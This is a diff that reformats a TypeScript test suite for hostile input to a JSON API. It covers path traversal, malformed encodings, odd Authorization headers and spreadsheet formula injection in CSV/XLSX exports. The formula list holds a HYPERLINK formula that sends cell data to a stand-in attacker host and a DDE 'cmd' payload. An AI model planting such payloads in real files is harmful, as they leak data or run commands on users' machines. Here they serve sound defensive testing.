@@ -27,13 +27,25 @@ describe('hostile input on the JSON API', () => {
   let app: RunningApp;
   let dataDir: string;
   const loggedErrors: string[] = [];
-  const logger: Logger = { debug() {}, info() {}, warn() {}, error: (message, fields) => void loggedErrors.push(`${message}: ${(fields?.error as Error | undefined)?.message ?? JSON.stringify(fields)}`) };
+  const logger: Logger = {
+    debug() {},
+    info() {},
+    warn() {},
+    error: (message, fields) =>
+      void loggedErrors.push(`${message}: ${(fields?.error as Error | undefined)?.message ?? JSON.stringify(fields)}`),
+  };
   const demo = (personId: string) => ({ Authorization: `Demo ${personId}` });
 
   beforeAll(async () => {
     dataDir = tempDir('renkei-hostile-api-');
     // Hundreds of requests a second from one address: lift the API's rate limits (a 429 is a 4xx, but hides the answer).
-    const config = loadConfig({ APP_DATA_DIR: dataDir, CHECKIN_SCHEDULER_INTERVAL_SECONDS: '0', INQUIRY_DEADLINE_INTERVAL_SECONDS: '0', API_RATE_PER_IP: '1000000/60', API_RATE_PER_USER: '1000000/60' });
+    const config = loadConfig({
+      APP_DATA_DIR: dataDir,
+      CHECKIN_SCHEDULER_INTERVAL_SECONDS: '0',
+      INQUIRY_DEADLINE_INTERVAL_SECONDS: '0',
+      API_RATE_PER_IP: '1000000/60',
+      API_RATE_PER_USER: '1000000/60',
+    });
     config.port = 0;
     app = await startApp(config, logger);
   });
@@ -52,13 +64,18 @@ describe('hostile input on the JSON API', () => {
    * A GET with the path sent byte for byte as given (fetch would normalise `..` and `%2e`) and
    * any latin-1 header values; resolves to the status and the body.
    */
-  function rawGet(path: string, headers: Record<string, string> = {}): Promise<{ status: number; body: string; headers: http.IncomingHttpHeaders }> {
+  function rawGet(
+    path: string,
+    headers: Record<string, string> = {},
+  ): Promise<{ status: number; body: string; headers: http.IncomingHttpHeaders }> {
     const { hostname, port } = new URL(app.url);
     return new Promise((resolve, reject) => {
       const request = http.request({ hostname, port, path, method: 'GET', headers }, (response) => {
         const chunks: Buffer[] = [];
         response.on('data', (chunk: Buffer) => chunks.push(chunk));
-        response.on('end', () => resolve({ status: response.statusCode ?? 0, body: Buffer.concat(chunks).toString('utf8'), headers: response.headers }));
+        response.on('end', () =>
+          resolve({ status: response.statusCode ?? 0, body: Buffer.concat(chunks).toString('utf8'), headers: response.headers }),
+        );
         response.on('error', reject);
       });
       request.on('error', reject);
@@ -130,27 +147,34 @@ describe('hostile input on the JSON API', () => {
     '%00',
   ];
 
-  it.each(['/api/rulings', '/api/rulings/search'])('answers FTS5 syntax, control characters and 10,000 characters in %s?q= with 200 or 400, never 500', async (route) => {
-    for (const q of FTS_QUERIES) {
-      const response = await fetch(`${app.url}${route}?q=${encode(q)}`);
-      if (response.status === 400) {
-        expectClearError(response.status, await response.text());
-        continue;
+  it.each(['/api/rulings', '/api/rulings/search'])(
+    'answers FTS5 syntax, control characters and 10,000 characters in %s?q= with 200 or 400, never 500',
+    async (route) => {
+      for (const q of FTS_QUERIES) {
+        const response = await fetch(`${app.url}${route}?q=${encode(q)}`);
+        if (response.status === 400) {
+          expectClearError(response.status, await response.text());
+          continue;
+        }
+        expect({ q: q.slice(0, 40), status: response.status }).toEqual({ q: q.slice(0, 40), status: 200 });
+        const body = (await response.json()) as unknown[] | { results: unknown[] };
+        expect(Array.isArray(route === '/api/rulings' ? body : (body as { results: unknown[] }).results)).toBe(true);
       }
-      expect({ q: q.slice(0, 40), status: response.status }).toEqual({ q: q.slice(0, 40), status: 200 });
-      const body = (await response.json()) as unknown[] | { results: unknown[] };
-      expect(Array.isArray(route === '/api/rulings' ? body : (body as { results: unknown[] }).results)).toBe(true);
-    }
-    // Percent-encoding that is not UTF-8, or not percent-encoding at all.
-    for (const raw of ['%', '%zz', '%ED%A0%80', '%C0%AF', '%FF%FE', '%E3%81', 'a%00b', '%%%']) {
-      const response = await rawGet(`${route}?q=${raw}`);
-      if (response.status !== 200) expectClearError(response.status, response.body);
-    }
-  });
+      // Percent-encoding that is not UTF-8, or not percent-encoding at all.
+      for (const raw of ['%', '%zz', '%ED%A0%80', '%C0%AF', '%FF%FE', '%E3%81', 'a%00b', '%%%']) {
+        const response = await rawGet(`${route}?q=${raw}`);
+        if (response.status !== 200) expectClearError(response.status, response.body);
+      }
+    },
+  );
 
   it('answers any search text, with any filters, with 200 and an array or a 400', async () => {
     const query = fc.tuple(
-      fc.oneof(hostileText, fc.constantFrom(...FTS_QUERIES), fc.string({ unit: 'grapheme', maxLength: 30 }).map((s) => `NEAR(${s}`)),
+      fc.oneof(
+        hostileText,
+        fc.constantFrom(...FTS_QUERIES),
+        fc.string({ unit: 'grapheme', maxLength: 30 }).map((s) => `NEAR(${s}`),
+      ),
       fc.option(fc.oneof(fc.constantFrom('1', '100', '0', '101', '-1', '1e2', '10.5', 'abc', ''), hostileText), { nil: undefined }),
       fc.option(fc.oneof(fc.constantFrom('current', 'superseded', 'all', 'ALL'), hostileText), { nil: undefined }),
       fc.option(fc.oneof(fc.constantFrom('2026', '2025', '0000', '99999', 'R8'), hostileText), { nil: undefined }),
@@ -213,25 +237,37 @@ describe('hostile input on the JSON API', () => {
     ['/api/analytics/initiatives/:code', (p) => `/api/analytics/initiatives/${p}`],
   ];
 
-  it.each(PATH_ROUTES)('answers traversal, NUL, broken encodings and very long ids in %s with a 4xx, never a file or a 500', async (_name, path) => {
-    for (const attack of PATH_ATTACKS) {
-      const response = await rawGet(path(attack), demo('p-pmo'));
-      expect({ attack: attack.slice(0, 40), status: response.status < 500 }).toEqual({ attack: attack.slice(0, 40), status: true });
-      expect(response.body).not.toContain('"dependencies"');
-      expect(response.headers['set-cookie']).toBeUndefined();
-      if (response.status !== 404 || response.body.startsWith('{')) expectClearError(response.status, response.body);
-    }
-  });
+  it.each(PATH_ROUTES)(
+    'answers traversal, NUL, broken encodings and very long ids in %s with a 4xx, never a file or a 500',
+    async (_name, path) => {
+      for (const attack of PATH_ATTACKS) {
+        const response = await rawGet(path(attack), demo('p-pmo'));
+        expect({ attack: attack.slice(0, 40), status: response.status < 500 }).toEqual({ attack: attack.slice(0, 40), status: true });
+        expect(response.body).not.toContain('"dependencies"');
+        expect(response.headers['set-cookie']).toBeUndefined();
+        if (response.status !== 404 || response.body.startsWith('{')) expectClearError(response.status, response.body);
+      }
+    },
+  );
 
   it('answers any path parameter with a 4xx unless it names a record the caller may read', async () => {
-    const existing = new Set([...demoRulings.map((r) => r.id), ...demoInquiries.map((i) => i.number), ...demoInitiatives.map((i) => i.code)]);
+    const existing = new Set([
+      ...demoRulings.map((r) => r.id),
+      ...demoInquiries.map((i) => i.number),
+      ...demoInitiatives.map((i) => i.code),
+    ]);
     await fc.assert(
-      fc.asyncProperty(fc.constantFrom(...PATH_ROUTES), fc.oneof(hostileText, fc.constantFrom(...existing)), fc.constantFrom('p-pmo', 'p-ward-staff', 'p-hq-responder'), async ([, path], id, person) => {
-        if (encode(id) === '') return;
-        const response = await rawGet(path(encode(id)), demo(person));
-        if (response.status === 200) expect(existing.has(id)).toBe(true);
-        else expectClearError(response.status, response.body);
-      }),
+      fc.asyncProperty(
+        fc.constantFrom(...PATH_ROUTES),
+        fc.oneof(hostileText, fc.constantFrom(...existing)),
+        fc.constantFrom('p-pmo', 'p-ward-staff', 'p-hq-responder'),
+        async ([, path], id, person) => {
+          if (encode(id) === '') return;
+          const response = await rawGet(path(encode(id)), demo(person));
+          if (response.status === 200) expect(existing.has(id)).toBe(true);
+          else expectClearError(response.status, response.body);
+        },
+      ),
       { numRuns: runs(150) },
     );
   });
@@ -279,7 +315,9 @@ describe('hostile input on the JSON API', () => {
     expect(exported.headers['content-disposition']).toContain('initiatives_FY2026Q3.csv');
     const history = await rawGet('/api/checkins/A1-2/history?fy=abc&fy=2026&q=2', demo('p-pmo'));
     expect(history.status).toBe(400); // the first fy is the one read
-    const list = JSON.parse((await rawGet('/api/inquiries?scope=all&scope=mine', demo('p-ward-staff'))).body) as { error?: { code: string } };
+    const list = JSON.parse((await rawGet('/api/inquiries?scope=all&scope=mine', demo('p-ward-staff'))).body) as {
+      error?: { code: string };
+    };
     expect(list.error?.code).toBe('Forbidden'); // scope=all, for ward staff
   });
 
@@ -319,12 +357,17 @@ describe('hostile input on the JSON API', () => {
     for (const authorization of ODD_AUTHORIZATION) {
       for (const path of ['/api/me', '/api/inquiries', '/api/checkins/export?fy=2026&q=3', '/api/analytics/initiatives/A1-2']) {
         const response = await rawGet(path, { Authorization: authorization });
-        expect({ authorization: authorization.slice(0, 40), path, status: response.status }).toEqual({ authorization: authorization.slice(0, 40), path, status: 401 });
+        expect({ authorization: authorization.slice(0, 40), path, status: response.status }).toEqual({
+          authorization: authorization.slice(0, 40),
+          path,
+          status: 401,
+        });
         expectClearError(response.status, response.body);
       }
     }
     // Surrounding white space (latin-1 NBSP included) is not part of the id: the same person.
-    for (const authorization of ['Demo\tp-pmo', ' Demo p-pmo ', 'Demo p-pmo\u00a0']) expect((await rawGet('/api/me', { Authorization: authorization })).status).toBe(200);
+    for (const authorization of ['Demo\tp-pmo', ' Demo p-pmo ', 'Demo p-pmo\u00a0'])
+      expect((await rawGet('/api/me', { Authorization: authorization })).status).toBe(200);
     // Over Node's 128 KB header limit: refused by the HTTP parser.
     const huge = await rawGet('/api/me', { Authorization: `Demo ${'a'.repeat(200_000)}` });
     expect(huge.status).toBe(431);
@@ -332,15 +375,28 @@ describe('hostile input on the JSON API', () => {
 
   it('answers any latin-1 Authorization header with 401 unless it names a demo person', async () => {
     const people = new Set(['p-ward-staff', 'p-hq-responder', 'p-hq-approver', 'p-pmo', 'p-ward-manager', 'p-admin']);
-    const latin1 = fc.string({ unit: fc.integer({ min: 0x20, max: 0xff }).filter((c) => c !== 0x7f).map((c) => String.fromCharCode(c)), maxLength: 80 });
+    const latin1 = fc.string({
+      unit: fc
+        .integer({ min: 0x20, max: 0xff })
+        .filter((c) => c !== 0x7f)
+        .map((c) => String.fromCharCode(c)),
+      maxLength: 80,
+    });
     await fc.assert(
-      fc.asyncProperty(fc.oneof(latin1, latin1.map((s) => `Demo ${s}`), latin1.map((s) => `Bearer ${s}`)), async (authorization) => {
-        const response = await rawGet('/api/me', { Authorization: authorization });
-        const match = /^Demo\s+(\S+)$/.exec(authorization.trim());
-        if (match && people.has(match[1])) return void expect(response.status).toBe(200);
-        expect(response.status).toBe(401);
-        expectClearError(response.status, response.body);
-      }),
+      fc.asyncProperty(
+        fc.oneof(
+          latin1,
+          latin1.map((s) => `Demo ${s}`),
+          latin1.map((s) => `Bearer ${s}`),
+        ),
+        async (authorization) => {
+          const response = await rawGet('/api/me', { Authorization: authorization });
+          const match = /^Demo\s+(\S+)$/.exec(authorization.trim());
+          if (match && people.has(match[1])) return void expect(response.status).toBe(200);
+          expect(response.status).toBe(401);
+          expectClearError(response.status, response.body);
+        },
+      ),
       { numRuns: runs(150) },
     );
   });
@@ -349,7 +405,24 @@ describe('hostile input on the JSON API', () => {
   // The export: text a spreadsheet would run as a formula
   // ---------------------------------------------------------------------------------------------
 
-  const FORMULA_TEXTS = ['\u0001=1+1', '\uffff=1+1', '\ufffe\uffff', '=1+2', '=HYPERLINK("http://evil.example/?x="&A1,"詳細")', '+SUM(A1:A9)', '-2+3', '@SUM(1)', '\t=1+1', '\r=1+1', '\r\n=cmd|\'/C calc\'!A0', "'=already quoted", "''+twice", '-', '=', '+81-3-0000-0000'];
+  const FORMULA_TEXTS = [
+    '\u0001=1+1',
+    '\uffff=1+1',
+    '\ufffe\uffff',
+    '=1+2',
+    '=HYPERLINK("http://evil.example/?x="&A1,"詳細")',
+    '+SUM(A1:A9)',
+    '-2+3',
+    '@SUM(1)',
+    '\t=1+1',
+    '\r=1+1',
+    "\r\n=cmd|'/C calc'!A0",
+    "'=already quoted",
+    "''+twice",
+    '-',
+    '=',
+    '+81-3-0000-0000',
+  ];
   const answer = (code: string, fiscalYear: number, quarter: 1 | 2 | 3 | 4, texts: [string, string, string]): CheckIn => ({
     initiativeCode: code,
     fiscalYear,
@@ -367,11 +440,14 @@ describe('hostile input on the JSON API', () => {
   });
 
   /** A text as an xlsx cell reads back: characters XML cannot hold dropped, then guarded; CR read as LF. */
-  const inXlsx = (text: string) => neutralizeFormula(wellFormed(text).replace(/[\u0000-\u0008\u000b\u000c\u000e-\u001f\u007f\ufffe\uffff]/g, '')).replace(/\r\n?/g, '\n');
+  const inXlsx = (text: string) =>
+    neutralizeFormula(wellFormed(text).replace(/[\u0000-\u0008\u000b\u000c\u000e-\u001f\u007f\ufffe\uffff]/g, '')).replace(/\r\n?/g, '\n');
 
   async function exported(fiscalYear: number, quarter: number) {
     const download = async (format: string) => {
-      const response = await fetch(`${app.url}/api/checkins/export?fy=${fiscalYear}&q=${quarter}&format=${format}`, { headers: demo('p-pmo') });
+      const response = await fetch(`${app.url}/api/checkins/export?fy=${fiscalYear}&q=${quarter}&format=${format}`, {
+        headers: demo('p-pmo'),
+      });
       expect(response.status).toBe(200);
       return Buffer.from(await response.arrayBuffer());
     };
@@ -382,7 +458,10 @@ describe('hostile input on the JSON API', () => {
     const xlsxRows: { type: ValueType; value: unknown; formula?: string }[][] = [];
     sheet.eachRow((row, rowNumber) => {
       const cells: { type: ValueType; value: unknown; formula?: string }[] = [];
-      row.eachCell({ includeEmpty: true }, (cell, column) => void (cells[column - 1] = { type: cell.type, value: cell.value, formula: cell.formula }));
+      row.eachCell(
+        { includeEmpty: true },
+        (cell, column) => void (cells[column - 1] = { type: cell.type, value: cell.value, formula: cell.formula }),
+      );
       xlsxRows[rowNumber - 1] = cells;
     });
     return { csvRows, xlsxRows };
@@ -405,10 +484,21 @@ describe('hostile input on the JSON API', () => {
     const codes = demoInitiatives.map((i) => i.code);
     // Three texts per answer (進捗状況, 方向性理由, 課題・次のアクション), one answer per initiative.
     const triples: [string, string, string][] = [];
-    for (let n = 0; n < FORMULA_TEXTS.length; n += 3) triples.push([0, 1, 2].map((i) => FORMULA_TEXTS[(n + i) % FORMULA_TEXTS.length]) as [string, string, string]);
-    for (const [n, triple] of triples.entries()) expect((await app.store.checkIns.submit(answer(codes[n], 2026, 3, triple))).outcome).toBe('created');
+    for (let n = 0; n < FORMULA_TEXTS.length; n += 3)
+      triples.push([0, 1, 2].map((i) => FORMULA_TEXTS[(n + i) % FORMULA_TEXTS.length]) as [string, string, string]);
+    for (const [n, triple] of triples.entries())
+      expect((await app.store.checkIns.submit(answer(codes[n], 2026, 3, triple))).outcome).toBe('created');
     const initiative = demoInitiatives[0];
-    await app.store.initiatives.upsert({ ...initiative, code: 'Z9-1', title: '=cmd|\' /C calc\'!A0', purpose: '@SUM(1)', milestone: '+1', activities: '\t=2', q4Target: '-1', kpis: [] });
+    await app.store.initiatives.upsert({
+      ...initiative,
+      code: 'Z9-1',
+      title: "=cmd|' /C calc'!A0",
+      purpose: '@SUM(1)',
+      milestone: '+1',
+      activities: '\t=2',
+      q4Target: '-1',
+      kpis: [],
+    });
     const files = await exported(2026, 3);
     expectNeutralised(files);
     const header = files.csvRows[0];
@@ -433,7 +523,10 @@ describe('hostile input on the JSON API', () => {
     const codes = demoInitiatives.map((i) => i.code);
     // Text as the bot stores it (no NUL: the bot drops control characters), with formula-like starts.
     const cellText = fc
-      .tuple(fc.constantFrom('', '=', '+', '-', '@', '\t', '\r', "'", "'=", ' =', '＝', '-1'), fc.oneof(hostileText, fc.string({ unit: 'grapheme', maxLength: 20 })))
+      .tuple(
+        fc.constantFrom('', '=', '+', '-', '@', '\t', '\r', "'", "'=", ' =', '＝', '-1'),
+        fc.oneof(hostileText, fc.string({ unit: 'grapheme', maxLength: 20 })),
+      )
       .map(([start, rest]) => `${start}${rest}`.replace(/\u0000/g, '').slice(0, 2000));
     let round = 0;
     await fc.assert(
